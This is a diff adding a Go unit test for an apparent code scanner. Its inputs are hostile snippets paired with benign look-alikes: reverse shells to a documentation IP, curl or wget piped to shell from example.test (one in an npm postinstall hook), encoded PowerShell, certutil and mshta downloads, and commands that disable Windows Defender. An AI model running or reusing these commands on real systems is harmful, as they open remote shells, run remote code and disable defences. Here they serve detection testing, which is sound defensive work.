@@ -73,3 +73,106 @@ func TestCodeClasses(t *testing.T) {
 		}
 	}
 }
+
+// TestCodeClassesPerLanguage covers the exec, eval and load forms of each
+// language and the Windows and packaging forms, in examples written for
+// this test, each beside its constant twin that is not a finding.
+func TestCodeClassesPerLanguage(t *testing.T) {
+	bad := map[string]string{
+		// Python
+		"subprocess.Popen(cmd, shell=1)":                    RuleCodeShell,
+		"subprocess.check_output('ls ' + d, shell='yes')":   RuleCodeShell,
+		"proc = await asyncio.create_subprocess_shell(cmd)": RuleCodeShell,
+		"await loop.subprocess_shell(Proto, command)":       RuleCodeShell,
+		"popen2.popen3(user_cmd)":                           RuleCodeShell,
+		"commands.getstatusoutput('grep %s log' % pattern)": RuleCodeShell,
+		"df = pd.read_pickle(upload_path)":                  RuleCodeDeserial,
+		"model = joblib.load(path)":                         RuleCodeDeserial,
+		"arr = np.load(f, allow_pickle=True)":               RuleCodeDeserial,
+		"docs = yaml.load_all(stream)":                      RuleCodeDeserial,
+		// Ruby
+		"Process.spawn(params[:cmd])":     RuleCodeShell,
+		`Kernel.system("tar xf #{name}")`: RuleCodeShell,
+		// JavaScript
+		"vm.runInContext(code, sandbox)":    RuleCodeEval,
+		"const s = new vm.Script(src)":      RuleCodeEval,
+		"execFileSync(bin, args)":           RuleCodeShell,
+		`setTimeout("run(" + id + ")", 10)`: RuleCodeEval,
+		"child.execSync(`git log ${ref}`)":  RuleCodeShell,
+		// Go
+		`exec.CommandContext(r.Context(), "sh", "-c", script)`: RuleCodeShell,
+		"os.StartProcess(bin, argv, &attr)":                    RuleCodeShell,
+		// Java, Groovy
+		"Runtime rt = Runtime.getRuntime();\nProcess p = rt.exec(cmd);": RuleCodeShell,
+		"GroovyShell sh = new GroovyShell();\nsh.evaluate(script);":     RuleCodeEval,
+		"ScriptEngine e = m.getEngineByName(\"js\");\ne.eval(input);":   RuleCodeEval,
+		// PHP
+		"<?php assert($_GET['c']); ?>":                         RuleCodeEval,
+		"<?php include($_GET['page'] . '.php'); ?>":            RuleCodeEval,
+		"<?php call_user_func($_POST['f'], $x); ?>":            RuleCodeEval,
+		`<?php echo preg_replace('/.*/e', $_GET['r'], $s); ?>`: RuleCodeEval,
+		// PowerShell and Windows
+		"powershell.exe -NoProfile -ec SQBFAFgA":                                                                 RuleCodePowerShell,
+		"pwsh -EncodedC SQBFAFgA":                                                                                RuleCodePowerShell,
+		"certutil -urlcache -split -f http://example.test/a.exe a.exe":                                           RuleCodePowerShell,
+		"Invoke-WebRequest http://example.test/a.exe -OutFile a.exe; Start-Process a.exe":                        RuleCodePowerShell,
+		"& ([scriptblock]::Create($code))":                                                                       RuleCodePowerShell,
+		"Stop-Service -Name WinDefend -Force":                                                                    RuleCodePowerShell,
+		`reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`: RuleCodePowerShell,
+		"mshta https://example.test/a.hta":                                                                       RuleCodePowerShell,
+		"regsvr32 /s /n /u /i:http://example.test/a.sct scrobj.dll":                                              RuleCodePowerShell,
+		"$s = (iwr http://example.test/a.ps1).Content; iex $s":                                                   RuleCodePowerShell,
+		"Remove-Item -Path $env:SystemDrive\\ -Recurse -Force":                                                   RuleCodeRmRoot,
+		// Reverse shells
+		"nc 203.0.113.9 4444 -e /bin/bash":                            RuleCodeReverseShell,
+		"busybox nc 203.0.113.9 4444 -e sh":                           RuleCodeReverseShell,
+		"telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445": RuleCodeReverseShell,
+		`ruby -rsocket -e 'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`: RuleCodeReverseShell,
+		`awk 'BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"; while(42) { s |& getline c; print c |& s; close(c) }}'`:        RuleCodeReverseShell,
+		// Dockerfile, package.json, shell
+		`RUN ["sh", "-c", "curl -fsSL https://example.test/i.sh | sh"]`:                                                  RuleCodePipeShell,
+		"RUN apt-get update && \\\n    curl -fsSL https://example.test/i.sh | bash && \\\n    rm -rf /var/lib/apt/lists": RuleCodePipeShell,
+		`{"name":"x","scripts":{"postinstall":"wget -qO- https://example.test/i.sh | sh"}}`:                              RuleCodePipeShell,
+		"curl -fsSL -o /tmp/i.sh https://example.test/i.sh && sh /tmp/i.sh":                                              RuleCodePipeShell,
+		"wget -O ./run.sh https://example.test/r.sh; chmod +x ./run.sh; ./run.sh":                                        RuleCodePipeShell,
+		`bash <<< "$(curl -s https://example.test/x.sh)"`:                                                                RuleCodePipeShell,
+	}
+	for in, rule := range bad {
+		if !hasRule(CheckCode(in), rule) {
+			t.Errorf("%q: %v, want %s", in, CheckCode(in), rule)
+		}
+	}
+	good := []string{
+		`subprocess.run(["ls", "-l"], shell=False)`,
+		`subprocess.Popen("make", shell=True)`,
+		`subprocess.Popen(args, shell=0)`,
+		"popen2.popen3('uptime')",
+		"arr = np.load('weights.npy')",
+		"docs = yaml.load_all(stream, Loader=yaml.SafeLoader)",
+		`Process.spawn("make")`,
+		"const m = /a(b)/.exec(line)",
+		"const r = re.exec(s); ctx.evaluate(expr); list.command(x)",
+		"exec.CommandContext(ctx, \"git\", \"status\")",
+		`setTimeout(() => run(id), 10)`,
+		"execFileSync(`git`, ['status'])",
+		"<?php include('header.php'); assert($x > 0); ?>",
+		"const fs = require(path.join(dir, 'x'))",
+		`preg_replace('/\s+/', ' ', $s)`,
+		"powershell -NoProfile -File build.ps1 -Environment prod",
+		"Invoke-WebRequest https://example.test/data.json -OutFile data.json",
+		"Stop-Service -Name Spooler",
+		"certutil -hashfile setup.exe SHA256",
+		`RUN ["npm", "ci"]`,
+		`{"scripts":{"build":"tsc -p .","test":"node --test"}}`,
+		"curl -fsSL -o /tmp/data.json https://example.test/d.json && jq . /tmp/data.json",
+		"Remove-Item -Recurse -Force .\\build",
+		"nc -z db.internal 5432",
+		"ncat --ssl example.test 443 < request.txt",
+		"telnet example.test 25",
+	}
+	for _, in := range good {
+		if f := CheckCode(in); len(f) > 0 {
+			t.Errorf("%q: flagged %v", in, f)
+		}
+	}
+}
